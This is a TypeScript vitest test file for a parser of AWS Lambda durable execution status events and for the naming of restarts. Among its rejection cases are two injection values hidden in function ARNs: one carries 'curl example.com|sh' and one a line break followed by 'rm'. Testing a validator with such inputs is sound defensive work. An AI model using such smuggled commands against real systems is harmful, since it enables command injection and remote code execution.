import { existsSync, readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readFailure, restartName } from '../../src/drain/restart.ts';
import { ACCOUNT, anEvent, aRequest, hookMessage, statusChange } from '../support/build.ts';

const read = (delivery: unknown) => readFailure(delivery, ACCOUNT);

describe('the end of an execution', () => {
  it.each(['FAILED', 'TIMED_OUT'])('that is %s is a failure, with what a restart needs', (status) => {
    const { detail } = statusChange();
    expect(read(statusChange({ status }))).toEqual({
      arn: detail.durableExecutionArn,
      name: detail.durableExecutionName,
      functionArn: detail.functionArn,
      status,
    });
  });

  it.each<[string, unknown]>([
    ['has begun', statusChange({ status: 'RUNNING' })],
    ['went well', statusChange({ status: 'SUCCEEDED' })],
    ['was stopped by somebody', statusChange({ status: 'STOPPED' })],
    ['has a status that is not known', statusChange({ status: 'EXPIRED' })],
    ['is of another account', statusChange({}, { account: '999999999999' })],
    ['says so from elsewhere', statusChange({}, { source: 'my.app' })],
    ['is of another type', statusChange({}, { 'detail-type': 'Lambda Function Invocation Result' })],
    ['has no name', statusChange({ durableExecutionName: undefined })],
    ['has a name that is none', statusChange({ durableExecutionName: 'a b; c' })],
    ['has a name longer than any', statusChange({ durableExecutionName: 'x'.repeat(65) })],
    ['has no ARN', statusChange({ durableExecutionArn: undefined })],
    ['has an ARN longer than any', statusChange({ durableExecutionArn: 'x'.repeat(1_025) })],
    ['has no function', statusChange({ functionArn: 17 })],
    [
      'has a function whose name would be a command in a shell',
      statusChange({ functionArn: 'arn:aws:lambda:eu-west-1:123456789012:function:x;curl example.com|sh' }),
    ],
    [
      'has a function with a line break in its name',
      statusChange({ functionArn: 'arn:aws:lambda:eu-west-1:123456789012:function:x\nrm' }),
    ],
    ['has no detail', { ...statusChange(), detail: null }],
    ['is a Spot warning', anEvent('spot-interruption')],
    ['is an SNS delivery', { Records: [{ Sns: { Message: JSON.stringify(hookMessage()) } }] }],
    ['is a request', aRequest()],
    ['is nothing', undefined],
  ])('that %s is no failure', (_, delivery) => {
    expect(read(delivery)).toBeUndefined();
  });

  it.each([
    'arn:aws:lambda:eu-west-1:123456789012:function:ecs-drain-drain',
    'arn:aws-us-gov:lambda:us-gov-west-1:123456789012:function:ecs-drain-drain:durable',
    'arn:aws:lambda:eu-west-1:123456789012:function:ecs-drain-drain:$LATEST',
  ])('of %s is read', (functionArn) => {
    expect(read(statusChange({ functionArn }))?.functionArn).toBe(functionArn);
  });

  it('whatever is delivered, reading never throws', () => {
    fc.assert(fc.property(fc.anything(), (delivery) => void expect(read(delivery)).toBeUndefined()));
    const keys = Object.keys(statusChange().detail);
    fc.assert(
      fc.property(fc.dictionary(fc.constantFrom(...keys), fc.jsonValue(), { maxKeys: 2 }), (detail) => {
        expect(read(statusChange(detail))?.name ?? 'x').toMatch(/^[A-Za-z0-9_-]{1,64}$/);
      }),
    );
  });

  const SAMPLE = new URL('../../../shared/samples/eb-lambda-durable-execution-status-change.doc.json', import.meta.url);

  // Real payloads lie beside the checkout where the project is developed and on CI; a lone clone does not have them.
  it.skipIf(!existsSync(SAMPLE))('has the members that AWS documents', () => {
    const event = JSON.parse(readFileSync(SAMPLE, 'utf8'));
    expect(read(event)).toBeUndefined();
    expect(read({ ...event, detail: { ...event.detail, status: 'FAILED' } })).toMatchObject({ name: 'order-123' });
  });
});

describe('the name of a restart', () => {
  it.each([
    ['i-0a1b2c3d480000000-order-1', 'i-0a1b2c3d480000000-order-1-r1'],
    ['i-0a1b2c3d480000000-order-r', 'i-0a1b2c3d480000000-order-r-r1'],
    ['i-0a1b2c3d480000000-order-1-r1', undefined],
    ['i-0a1b2c3d480000000-order-1-r2', undefined],
    ['i-0a1b2c3d480000000-order-1-r17', undefined],
  ])('of %s is %s: once, and never a restart of a restart', (name, again) => {
    expect(restartName(name)).toBe(again);
  });
});
